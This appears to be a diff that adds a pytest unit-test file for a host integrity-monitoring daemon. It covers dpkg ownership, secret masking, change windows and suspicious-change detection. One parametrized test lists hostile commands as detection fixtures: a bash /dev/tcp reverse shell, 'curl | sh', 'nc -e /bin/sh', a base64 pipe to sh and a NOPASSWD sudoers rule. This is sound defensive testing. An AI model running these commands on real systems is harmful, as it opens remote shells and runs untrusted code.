@@ -1,0 +1,190 @@
+"""The package database, runs of dpkg, masked diffs, the change window, and the worker that runs it all."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from dio_daemon.detect.integrity import words
+from dio_daemon.detect.integrity.assemble import assemble
+from dio_daemon.detect.integrity.dpkg import Packages, aliases, conffiles, diversions
+from dio_daemon.detect.integrity.runs import Runs, runs_of_history, runs_of_log
+from dio_daemon.detect.integrity.suspicious import signs
+from dio_daemon.detect.integrity.window import ChangeWindow
+from dio_daemon.heartbeat import Heartbeat
+from tests.support.control import Socket
+from tests.unit.integrity.conftest import FakeHost, Hands
+
+
+def test_owners(fake: FakeHost) -> None:
+    fake.package("bash", {"/bin/bash": "x"}, {"/etc/bash.bashrc": "y"})
+    packages = Packages(fake.host)
+    owner = packages.owner("/usr/bin/bash")
+    assert owner is not None and owner.package == "bash" and packages.matches("/usr/bin/bash", owner, b"x")
+    conf = packages.owner("/etc/bash.bashrc")
+    assert conf is not None and conf.conffile and packages.matches("/etc/bash.bashrc", conf, b"z") is False
+    assert packages.owner("/usr/bin/bas") is None and packages.owner("/etc/passwd") is None
+    fake.package("zsh", {"/usr/bin/zsh": "x"})
+    found = packages.owner("/usr/bin/zsh")
+    assert found is not None and found.package == "zsh"
+
+
+def test_a_host_without_dpkg(tmp_path: Path, fake: FakeHost) -> None:
+    packages = Packages(fake.host)
+    assert packages.owner("/etc/crontab") is None and packages.version() is None
+    runs = Runs(fake.host)
+    assert not runs.busy(time.time()) and not runs.during(time.time())
+
+
+def test_names_in_the_database() -> None:
+    assert aliases("/usr/lib/x") == ("/usr/lib/x", "/lib/x")
+    assert aliases("/lib/x") == ("/lib/x", "/usr/lib/x")
+    assert aliases("/etc/x") == ("/etc/x",)
+    status = b"Package: a\nConffiles:\n /etc/a 0123456789abcdef0123456789abcdef\n /etc/b newconffile\n"
+    status += b" /etc/c 0123456789abcdef0123456789abcdef obsolete\nVersion: 1\n\nPackage: b\n"
+    assert set(conffiles(status)) == {"/etc/a"}
+    assert diversions(b"/bin/sh\n/bin/sh.distrib\ndash\n") == {"/bin/sh.distrib": "/bin/sh"}
+
+
+def test_runs_from_logs() -> None:
+    text = b"2026-01-01 10:00:00 startup archives unpack\n2026-01-01 10:00:30 status installed a:all 1\n"
+    text += b"2026-01-01 12:00:00 startup packages configure\njunk\n2026-13-77 99:00:00 startup x\n"
+    (first, second) = runs_of_log(text)
+    assert first[1] - first[0] == pytest.approx(36) and second[1] - second[0] == pytest.approx(6)
+    history = b"Start-Date: 2026-01-01  10:00:00\nEnd-Date: 2026-01-01  10:01:00\nStart-Date: 2026-01-01  11:00:00\n"
+    ((start, end),) = runs_of_history(history)
+    assert end - start == pytest.approx(66)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "password = Hunter2secret",
+        'export API_TOKEN="Hunter2secret"',
+        "mysql --password=Hunter2secret",
+        "curl -u user:Hunter2secret http://x",
+        "curl https://user:Hunter2secret@example.org/",
+        "Authorization: Bearer Hunter2secret",
+        "root:$6$Hunter2secret$abcdef:1:",
+        "AWS_SECRET_ACCESS_KEY: Hunter2secret",
+        "x = Hunter2secretHunter2secretHunter2secretHunter2secret",
+    ],
+)
+def test_secrets_are_masked(line: str) -> None:
+    assert "Hunter2secret" not in words.masked(line)
+
+
+def test_what_is_no_secret_stays() -> None:
+    for line in (
+        "* * * * * root /usr/local/bin/backup --all",
+        "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS",
+        "alias ll='ls'",
+    ):
+        assert words.masked(line) == line
+    private = (
+        b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----\n"
+    )
+    shown = words.diff(b"", private)
+    assert shown is not None and "b3Blb" not in shown
+    assert words.diff(b"", b"\0") is None and words.diff(None, b"x") is None
+    long = words.diff(b"", b"".join(b"line %d\n" % number for number in range(500)))
+    assert long is not None and "more lines" in long
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+        "curl http://x | sh",
+        "* * * * * root /tmp/.x",
+        "nc -e /bin/sh 192.0.2.1 1",
+        "echo aGk= | base64 -d | sh",
+        "ann ALL=(ALL) NOPASSWD: ALL",
+    ],
+)
+def test_signs(text: str) -> None:
+    assert signs(text.encode()) and not signs(text.encode(), text.encode())
+
+
+def test_ordinary_texts_have_no_signs() -> None:
+    for text in (
+        b"17 * * * * root run-parts /etc/cron.hourly\n",
+        b"%sudo ALL=(ALL:ALL) ALL\n",
+        b"TMPDIR=/tmp\n",
+    ):
+        assert signs(text) == []
+
+
+def test_the_change_window(tmp_path: Path) -> None:
+    """It has an end, outlives a restart, and covers what was changed right before its end."""
+    clock = Hands()
+    window = ChangeWindow(tmp_path / "window.json", clock)
+    assert window.document() is None and not window.end()
+    window.begin(60, "upgrade")
+    again = ChangeWindow(tmp_path / "window.json", clock)
+    assert again.open() and (again.document() or {})["reason"] == "upgrade"
+    clock.ahead_s = 63
+    assert again.document() is None and again.open()
+    clock.ahead_s = 70
+    assert not again.open()
+    for text in ("", "[]", "{}", '[1, "x", 3]', '[0, 999999999, "x"]'):
+        (tmp_path / "window.json").write_text(text)
+        assert ChangeWindow(tmp_path / "window.json", clock).document() is None
+
+
+def test_the_window_on_the_control_socket(tmp_path: Path) -> None:
+    running = Socket(tmp_path)
+    try:
+        call = running.client.call
+        assert call("GET", "/v1/change") == {"window": None}
+        assert "until" in call("POST", "/v1/change/begin", {"for_s": 60, "reason": "CHG-1"})
+        assert call("GET", "/v1/change")["window"]["reason"] == "CHG-1"
+        assert call("POST", "/v1/change/end") == {"was_open": True}
+        assert call("POST", "/v1/change/accept") == {"accepted": True}
+        assert running.window.accept_asked and running.woken == 2
+    finally:
+        running.close()
+
+
+def test_the_worker_looks_tells_and_accepts(fake: FakeHost) -> None:
+    """All detectors over a made-up host: silent at first, then told at once, accepted, and gone."""
+    recorded: list[Any] = []
+    asked: list[int] = []
+    state = fake.root / "state"
+    window = ChangeWindow(state / "window.json", fake.clock)
+    heartbeat = Heartbeat("integrity", fake.clock)
+    worker = assemble(
+        fake.host,
+        state,
+        (),
+        window,
+        heartbeat,
+        fake.clock,
+        lambda *event: recorded.append(event),
+        lambda: asked.append(1),
+        str(fake.root / "cgroup"),
+        (),
+    )
+    worker.wake()
+
+    def steps(count: int = 6) -> set[str]:
+        for _ in range(count):
+            worker.wake()  # so that it waits for nothing
+            worker.step()
+            fake.clock.monotonic_s += 10
+        return {finding.subject for finding in worker.look({}, 0.0)}
+
+    assert steps(30) == set() and worker.ready and [event[0] for event in recorded] == ["integrity_baseline"]
+    fake.put("/etc/cron.d/evil", "x\n")
+    fake.put("/tmp/x", "x", 0o4755)
+    fake.clock.monotonic_s += 60
+    assert steps() == {"/etc/cron.d/evil", "/tmp/x"} and asked
+    window.accept_asked = True
+    assert steps() == set()
+    worker.stop()
+    assert worker.stopping
+    worker.finish()
+    assert (state / "integrity.json.gz").stat().st_mode & 0o777 == 0o600
